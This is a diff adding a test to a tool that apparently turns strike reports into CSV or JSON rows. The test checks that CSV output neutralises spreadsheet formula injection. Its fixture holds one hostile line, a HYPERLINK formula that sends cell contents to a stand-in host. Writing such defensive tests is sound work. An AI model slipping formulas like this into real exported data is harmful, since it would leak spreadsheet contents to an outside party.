@@ -185,3 +185,12 @@ def test_merge_refuses_an_unfinished_row_and_changes_nothing(tmp_path):
     assert result.exit_code == 2
     assert f"{reviewed}, row 3, field 'date': is empty" in result.stderr
     assert strikes.read_bytes() == (DATA / "strikes.csv").read_bytes()
+
+
+def test_evidence_cannot_run_as_a_spreadsheet_formula(tmp_path):
+    report = tmp_path / "report.txt"
+    report.write_text('=HYPERLINK("http://x.example/?"&A1) Jets struck Homs on Sunday.', encoding="utf-8")
+    rows = list(csv.DictReader(io.StringIO(run("extract", str(report)).stdout)))
+    assert rows[0]["evidence"].startswith("'=HYPERLINK")
+    as_json = json.loads(run("extract", "--json", str(report)).stdout)
+    assert as_json["evidence"].startswith("=HYPERLINK")  # JSON is data, kept as written
